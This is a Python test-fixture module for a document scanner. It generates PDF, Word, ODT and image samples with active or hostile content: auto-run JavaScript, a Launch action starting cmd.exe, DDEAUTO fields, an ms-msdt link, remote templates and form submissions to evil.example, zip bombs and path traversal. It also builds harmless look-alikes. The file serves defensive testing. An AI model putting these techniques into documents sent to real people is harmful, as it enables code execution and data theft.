"""Documents with something in them that runs, loads or hides, and harmless ones that look like them.

The code here makes them as the programs and attackers behind the originals would have written them.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests import office

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


# ------------------------------------------------------------------ PDF


def pdf(catalog: str = "", page: str = "", *objects: str, trailer: str = "") -> bytes:
    """A PDF of one empty page; further objects are numbered from 4."""
    parts = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842] {page}>>",
        *objects,
    ]
    made, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n{part}\nendobj\n".encode("latin-1")
    start = len(made)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    made += f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}".encode()
    end = f"trailer\n<</Size {len(parts) + 1}/Root 1 0 R {trailer}>>\nstartxref\n{start}\n%%EOF\n"
    return made + end.encode()


def stream(content: str, entries: str = "") -> str:
    return f"<</Length {len(content)} {entries}>>stream\n{content}\nendstream"


def annotation(entries: str) -> str:
    return f"/Annots[<</Type/Annot/Rect[0 0 9 9] {entries}>>]"


def saved(content: bytes, **how: object) -> bytes:
    """The same file as qpdf writes it, for example encrypted or with its objects packed into streams."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(made, **how)
    return made.getvalue()


_SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
_PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
_FILE = ("<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", stream("MZ", "/Type/EmbeddedFile"))

ACTIVE_PDFS = {
    "script when opened": (pdf(f"/OpenAction {_SCRIPT}"), "a script"),
    "script by name": (pdf(f"/Names<</JavaScript<</Names[(a){_SCRIPT}]>>>>"), "a script"),
    "script, name in hexadecimal": (
        pdf("/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "a script",
    ),
    "script in an object stream": (
        saved(pdf("/OpenAction 4 0 R", "", _SCRIPT), **_PACKED),
        "a script",
    ),
    "script in a stream": (
        pdf("/OpenAction<</S/JavaScript/JS 4 0 R>>", "", stream("a")),
        "a script",
    ),
    "script of a page": (pdf("", f"/AA<</O {_SCRIPT}>>"), "a script"),
    "script of a link": (pdf("", annotation(f"/Subtype/Link/A {_SCRIPT}")), "a script"),
    "script after another action": (
        pdf("", annotation(f"/Subtype/Link/A<</S/URI/URI(https://a.example)/Next[{_SCRIPT}]>>")),
        "a script",
    ),
    "script of a form field": (
        pdf("/AcroForm<</Fields[4 0 R]>>", "", f"<</FT/Tx/T(a)/AA<</K {_SCRIPT}>>>>"),
        "a script",
    ),
    "script in a rendition": (
        pdf("", annotation("/Subtype/Link/A<</S/Rendition/JS(app.alert\\(1\\))>>")),
        "a script",
    ),
    "script that nothing refers to": (
        pdf().replace(b"xref\n", b"9 0 obj\n<</S /JavaScript>>\nendobj\nxref\n", 1),
        "a script",
    ),
    "program started": (pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), "starts a program"),
    "program started on Windows": (
        pdf("", annotation("/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>")),
        "starts a program",
    ),
    "document embedded and opened": (
        pdf("", annotation("/Subtype/Link/A<</S/GoToE/T<</R/C>>>>")),
        "starts a program",
    ),
    "document on a share": (
        pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>"),
        "starts a program",
    ),
    "document on a share, by its description": (
        pdf("/OpenAction<</S/GoToR/F<</F(a)/UF(//evil.example/a.pdf)>>/D[0/Fit]>>"),
        "starts a program",
    ),
    "link that is a script": (
        pdf("", annotation("/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>")),
        "starts a program",
    ),
    "form that sends itself": (
        pdf("/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
        "sends or fetches",
    ),
    "form that fetches data": (pdf("/OpenAction<</S/ImportData/F(a.fdf)>>"), "sends or fetches"),
    "form of XFA": (pdf("/AcroForm<</XFA 4 0 R/Fields[]>>", "", stream("<xdp/>")), "an XFA form"),
    "file embedded": (
        pdf("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", "", *_FILE),
        "an embedded",
    ),
    "file in a portfolio, packed": (
        saved(pdf("/Collection<</Type/Collection>>/AF[4 0 R]", "", *_FILE), **_PACKED),
        "an embedded",
    ),
    "file in a note": (
        pdf("", annotation("/Subtype/FileAttachment/FS 4 0 R"), *_FILE),
        "an embedded",
    ),
    "rich media": (pdf("", annotation("/Subtype/RichMedia/RichMediaContent<<>>")), "sound, video"),
    "video": (pdf("", annotation("/Subtype/Screen/A<</S/Rendition>>")), "sound, video"),
    "3D model": (pdf("", annotation("/Subtype/3D/3DD 4 0 R"), stream("U3D")), "sound, video"),
    "password": (
        saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="b", R=6)),
        "is encrypted",
    ),
    "password of the owner": (
        saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="", R=4)),
        "is encrypted",
    ),
    "no page": (b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF\n", "is damaged"),
    "archive behind it": (pdf() + office.archive({"a.exe": b"MZ"}), "also a ZIP archive"),
}

HARMLESS_PDFS = {
    "plain": pdf(),
    "packed": saved(pdf("", "/Contents 4 0 R", stream("BT ET")), **_PACKED),
    "linearised": saved(pdf(), linearize=True),
    "old": pdf().replace(b"%PDF-1.7", b"%PDF-1.2"),
    "with links": pdf(
        "/OpenAction[3 0 R/Fit]",
        annotation("/Subtype/Link/A<</S/URI/URI(https://treaties.un.org/a?b=c)>>"),
    ),
    "with a link to a chapter": pdf("", annotation("/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]>>")),
    "with a link to its annex": pdf(
        "", annotation("/Subtype/Link/A<</S/GoToR/F(annex.pdf)/D[0/Fit]>>")
    ),
    "with notes and stamps": pdf("", annotation("/Subtype/Text/Contents(Check /JavaScript here)")),
    "with a form to fill in": pdf(
        "/AcroForm<</Fields[4 0 R]/DA(/Helv 9 Tf)>>", "", "<</FT/Tx/T(name)/V(Anna)/Ff 0>>"
    ),
    "with a signature": pdf(
        "/AcroForm<</SigFlags 3/Fields[4 0 R]>>",
        "",
        "<</FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 1 2 3]/Contents<00>>>>>",
    ),
    "with outlines, layers and fonts": pdf(
        "/Outlines<</Count 1/First 5 0 R/Last 5 0 R>>/OCProperties<</OCGs[]/D<<>>>>/Lang(en)",
        "/Resources<</Font<</F1 4 0 R>>>>/Contents 6 0 R",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        "<</Title(Article 1)/Parent 1 0 R/Dest[3 0 R/Fit]>>",
        stream("BT /F1 12 Tf (Launch) Tj ET"),
    ),
    "with metadata": pdf("/Metadata 4 0 R", "", stream("<x:xmpmeta/>", "/Type/Metadata")),
    "with a transition": pdf("", "/Trans<</S/Dissolve>>/Dur 5"),
    "scanned, bytes behind it": pdf() + b"\r\n\x00\x00",
    "cut off at the end": pdf()[:-30],
    "saved again behind itself": saved(pdf())
    + b"\n9 0 obj\n<</A 1>>\nendobj\ntrailer\n<</Size 10/Root 1 0 R>>\n%%EOF\n",
}


# ------------------------------------------------------------------ DOCX


def word(
    *relations: tuple[str, str] | tuple[str, str, str],
    of: str = "word/_rels/document.xml.rels",
    types: str = "",
    body: str = "",
    **parts: bytes,
) -> bytes:
    """A Word document with these relationships (use, target, and External), content types and further parts."""
    lines = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATION}{use}" Target="{target}"'
        + "".join(f' TargetMode="{mode}"' for mode in more)
        + "/>"
        for number, (use, target, *more) in enumerate(relations)
    )
    return office.docx(
        **{
            "[Content_Types].xml": f'<?xml version="1.0"?><Types>{types}</Types>'.encode(),
            "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>".encode(),
            of: f"<Relationships>{lines}</Relationships>".encode(),
        }
        | {name.replace("__", "/"): content for name, content in parts.items()}
    )


def typed(kind: str, part: str = "/word/a.bin") -> str:
    return f'<Override PartName="{part}" ContentType="application/{kind}"/>'


def field(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def chart(workbook: bytes) -> dict[str, bytes]:
    related = f'<Relationship Id="r1" Type="{_RELATION}package" Target="../embeddings/a.xlsx"/>'
    return {
        "word/charts/chart1.xml": b"<c:chartSpace/>",
        "word/charts/_rels/chart1.xml.rels": f"<Relationships>{related}</Relationships>".encode(),
        "word/embeddings/a.xlsx": workbook,
    }


def rewritten(content: bytes, before: bytes, after: bytes) -> bytes:
    assert content.count(before)
    return content.replace(before, after)


def twice() -> bytes:
    made = io.BytesIO(office.docx(**{"word/document.xmm": b"<x/>"}))
    return made.getvalue().replace(b"word/document.xmm", b"word/document.xml")


def overlapping() -> bytes:
    """Two entries of the list that lead to the same bytes, as in Fifield's bomb."""
    made = office.docx()
    place = made.index(b"PK\x01\x02", made.index(b"PK\x01\x02") + 4)
    return made[: place + 42] + struct.pack("<I", 0) + made[place + 46 :]


def larger_than_it_says() -> bytes:
    made = bytearray(office.docx(**{"word/media/a.bin": bytes(100_000)}))
    place = made.rindex(b"PK\x01\x02")
    made[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(made)


def packed_with_a_password() -> bytes:
    made = bytearray(office.docx())
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := made.find(sign, place + 1)) >= 0:
            made[place + flags] |= 1
    return bytes(made)


_MAIN = "vnd.ms-word.document.macroEnabled.main+xml"
_EVIL = "http://evil.example/a"
ENTITIES = b'<!DOCTYPE a [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><a>&b;</a>'

ACTIVE_WORD = {
    "macros": (office.docx(**{"word/vbaProject.bin": OLE}), "macros"),
    "macros, other capitals": (office.docx(**{"word/vbaproject.BIN": b"x"}), "macros"),
    "macros, backslashes": (office.docx(**{"word\\vbaProject.bin": b"x"}), "macros"),
    "macros, renamed": (word(("image", "a.png"), **{"word__a.png": OLE}), "an embedded object"),
    "macros, by their relationship": (
        word(("vbaProject", "a.bin"), **{"word__a.bin": b"x"}),
        "macros",
    ),
    "macros, by their content type": (word(types=typed("vnd.ms-office.vbaProject")), "macros"),
    "DOCM called DOCX": (word(types=typed(_MAIN, "/word/document.xml")), "macros"),
    "keys that run macros": (word(("keyMapCustomizations", "a.xml")), "macros"),
    "macro sheets of Excel 4": (word(types=typed("vnd.ms-excel.intlmacrosheet+xml")), "macros"),
    "object of OLE": (word(("oleObject", "embeddings/a.bin")), "an embedded object"),
    "object of OLE, linked": (word(("oleObject", _EVIL, "External")), "an embedded object"),
    "object in the text": (
        word(body='<w:object><o:OLEObject ProgID="Package"/></w:object>'),
        "an embedded",
    ),
    "ActiveX": (word(("control", "activeX/activeX1.xml")), "an embedded object"),
    "ActiveX, by its content type": (word(types=typed("vnd.ms-office.activeX+xml")), "an embedded"),
    "workbook embedded": (word(("package", "embeddings/a.xlsx")), "an embedded object"),
    "archive embedded": (
        word(**{"word__a.png": office.archive({"a": b"x"})}),
        "an embedded object",
    ),
    "program embedded": (word(**{"word__media__a.png": b"MZ" + bytes(200)}), "an embedded object"),
    "web page embedded": (word(("aFChunk", "a.html")), "an embedded object"),
    "macros in the workbook of a chart": (
        office.docx(**chart(office.archive({"xl/vbaProject.bin": OLE}))),
        "macros",
    ),
    "template on the web": (
        word(("attachedTemplate", _EVIL, "External"), of="word/_rels/settings.xml.rels"),
        "an external template",
    ),
    "template on a share": (
        word(("attachedTemplate", "\\\\evil.example\\a", "External")),
        "an external",
    ),
    "picture on a share": (
        word(("image", "file://///evil.example/a.png", "External")),
        "loads another",
    ),
    "frame": (word(("frame", _EVIL, "External")), "loads another"),
    "part of another document": (word(("subDocument", _EVIL, "External")), "an embedded"),
    "link that runs a script": (
        word(("hyperlink", "javascript:alert(1)", "External")),
        "runs a script",
    ),
    "link that starts a tool": (word(("hyperlink", "ms-msdt:/id", "External")), "runs a script"),
    "field of DDE": (word(body=field("DDEAUTO c:\\a.exe")), "a field"),
    "field of DDE, in pieces": (word(body=field(" DD", "EAU", "TO c:\\a.exe")), "a field"),
    "field of DDE, simple": (word(body='<w:fldSimple w:instr="dde a b"/>'), "a field"),
    "field of DDE, in numbers": (word(body=field("QUOTE 68 68 69 65 85 84 79")), "a field"),
    "field that includes a file": (word(body=field(' INCLUDETEXT "\\\\evil\\a.docx"')), "a field"),
    "entities": (word(**{"word__settings.xml": ENTITIES}), "defines entities"),
    "XML nested deeply": (word(body="<a>" * 10_000), "nested too deeply"),
    "XML that is none": (word(**{"word__settings.xml": b"<a><b></a>"}), "cannot be read"),
    "name of a megabyte": (word(body=f"<a{'b' * 3_000_000}/>"), "too long"),
    "password of the archive": (packed_with_a_password(), "has a password"),
    "password of Office": (OLE, "Excel 97"),
    "part twice": (twice(), "the same name"),
    "parts overlapping": (overlapping(), "is damaged"),
    "part larger than it says": (larger_than_it_says(), "is damaged"),
    "something before it": (b"PK\x03\x04" + office.docx(), "precedes it"),
    "something behind it": (office.docx() + b"<script>", "follows its end"),
    "comment behind it": (office.docx()[:-2] + b"\x03\x00abc", "follows its end"),
    "bomb": (office.docx(**{"word/media/a.bin": bytes(20 << 20)}), "unpacks to more than"),
    "bomb in its text": (word(body=" " * (20 << 20)), "unpacks to more than"),
    "bomb of parts": (
        office.docx(**{f"word/media/{n}.bin": b"" for n in range(2_001)}),
        "more than 2000 parts",
    ),
    "bomb behind a chart": (
        office.docx(**chart(office.archive({"a": bytes(20 << 20)}))),
        "unpacks to",
    ),
    "name that leaves the folder": (office.docx(**{"../a.xml": b"<x/>"}), "impossible name"),
}

HARMLESS_WORD = {
    "plain": office.docx(),
    "with a picture": word(("image", "media/a.png"), **{"word__media__a.png": office.png()}),
    "with links": word(
        ("hyperlink", "https://treaties.un.org", "External"),
        ("hyperlink", "mailto:register@example.org", "External"),
        ("hyperlink", "Annex%20A.docx", "External"),
        ("image", "https://un.org/logo.png", "External"),
    ),
    "with the ministry's template": word(
        ("attachedTemplate", "file:///C:\\Templates\\Letter.dotx", "External"),
        of="word/_rels/settings.xml.rels",
    ),
    "with fields": word(
        body=field(" PAGE ")
        + field(' HYPERLINK "https://un.org"', ' \\o "dde"')
        + field(' TOC \\o "1-3" ')
        + field(" MACROBUTTON NoMacro [name] ")
        + '<w:fldSimple w:instr=" DATE "/>'
    ),
    "with a chart and its workbook": office.docx(
        **chart(office.archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}))
    ),
    "with settings of the printer": word(**{"word__printerSettings1.bin": b"\x00L\x00a\x00s"}),
    "with text about macros": word(body="<w:t>macroEnabled vbaProject DDEAUTO javascript:</w:t>"),
    "without compression": office.archive(office.PARTS_OF_DOCX, zipfile.ZIP_STORED),
}


# ------------------------------------------------------------------ ODT


def odt(body: str = "", **parts: bytes) -> bytes:
    content = f"<office:document-content><office:scripts/><office:body>{body}</office:body></office:document-content>"
    named = {name.replace("__", "/"): content for name, content in parts.items()}
    return office.odt(**{"content.xml": content.encode()} | named)


ACTIVE_ODT = {
    "macros": (odt(**{"Basic__Standard__a.xml": b"<x/>"}), "macros"),
    "macros, other capitals": (odt(**{"basic__a.xml": b"x"}), "macros"),
    "macros in Python": (odt(**{"Scripts__python__a.py": b"x"}), "macros"),
    "macros when opened": (
        odt(
            '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'
        ),
        "macros",
    ),
    "script in the text": (odt("<text:script>x</text:script>"), "macros"),
    "object of OLE": (odt('<draw:object-ole xlink:href="./a"/>', a=OLE), "an embedded"),
    "applet": (odt('<draw:applet xlink:href="a"/>'), "an embedded object"),
    "frame": (odt(f'<draw:floating-frame xlink:href="{_EVIL}"/>'), "an embedded object"),
    "object elsewhere": (odt(f'<draw:object xlink:href="{_EVIL}"/>'), "loads another"),
    "section elsewhere": (odt(f'<text:section-source xlink:href="{_EVIL}"/>'), "loads another"),
    "template elsewhere": (
        odt(**{"meta.xml": f'<a><meta:template xlink:href="{_EVIL}"/></a>'.encode()}),
        "an external template",
    ),
    "picture on a share": (
        odt('<draw:image xlink:href="file://evil.example/a"/>'),
        "loads another",
    ),
    "DDE": (odt("<text:dde-connection-decl/>"), "a field"),
    "link that runs a macro": (
        odt('<text:a xlink:href="vnd.sun.star.script:a"/>'),
        "runs a script",
    ),
    "password": (
        odt(**{"META-INF__manifest.xml": b"<m><manifest:encryption-data/></m>"}),
        "a password",
    ),
    "bomb": (odt(" " * (20 << 20)), "unpacks to more than"),
}

HARMLESS_ODT = {
    "plain": odt(),
    "with links and pictures": odt(
        '<text:a xlink:href="https://un.org"/><draw:image xlink:href="Pictures/a.png"/>'
        '<draw:object xlink:href="./Object 1"/>',
        **{"Pictures__a.png": office.png(), "Object 1__content.xml": b"<office:document-content/>"},
    ),
    "with its template": odt(**{"meta.xml": b'<a><meta:template xlink:href="/C:/a.ott"/></a>'}),
    "of an old program": odt(
        **{"META-INF__manifest.xml": b'<!DOCTYPE m PUBLIC "-//OOo//DTD" "Manifest.dtd"><m/>'}
    ),
}


# ------------------------------------------------------------------ pictures


def picture(kind: str, size: tuple[int, int] = (40, 30), **how: object) -> bytes:
    made = io.BytesIO()
    Image.new("1", size).save(made, kind, **how)
    return made.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG that claims this size, with a correct checksum."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    made = bytearray(office.png())
    made[12:33] = header + struct.pack(">I", zlib.crc32(header))
    return bytes(made)


def jpeg_of(width: int, height: int) -> bytes:
    made = picture("JPEG")
    place = made.index(b"\xff\xc0") + 5
    return made[:place] + struct.pack(">HH", height, width) + made[place + 4 :]


ENDLESS_PICTURES = {
    "PNG of 2³¹ × 2³¹": (png_of(2**31 - 1, 2**31 - 1), "pixels"),
    "PNG of more pixels than a sheet": (png_of(20_000, 20_000), "pixels"),
    "JPEG of 65,535 × 65,535": (jpeg_of(65_535, 65_535), "pixels"),
    "TIFF of many large pages": (
        picture(
            "TIFF",
            (15_000, 4_000),
            compression="group4",
            save_all=True,
            append_images=[Image.new("1", (15_000, 4_000))] * 3,
        ),
        "pixels",
    ),
    "PNG without a header": (office.png()[:8] + bytes(100), "not that of a picture"),
    "JPEG without a header": (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(100),
        "not that of a picture",
    ),
    "PNG with an archive behind it": (office.png() + office.archive({"a": b"x"}), "also a ZIP"),
}

PICTURES = {
    "PNG": picture("PNG"),
    "JPEG": picture("JPEG", quality=80),
    "TIFF": picture("TIFF", compression="group4"),
    "TIFF of pages": picture(
        "TIFF",
        (2_000, 3_000),
        compression="group4",
        save_all=True,
        append_images=[Image.new("1", (2_000, 3_000))] * 9,
    ),
    "scan of A3 at 600 dpi": picture("PNG", (9_900, 7_000)),
    "JPEG filled up with zeros": picture("JPEG") + bytes(500),
}

ACTIVE = {
    f"{kind}: {name}": case
    for kind, cases in (
        ("PDF", ACTIVE_PDFS), ("DOCX", ACTIVE_WORD), ("ODT", ACTIVE_ODT), ("picture", ENDLESS_PICTURES),
    )
    for name, case in cases.items()
}  # fmt: skip
HARMLESS = {
    f"{kind}: {name}": content
    for kind, contents in (
        ("PDF", HARMLESS_PDFS), ("DOCX", HARMLESS_WORD), ("ODT", HARMLESS_ODT), ("picture", PICTURES),
    )
    for name, content in contents.items()
}  # fmt: skip
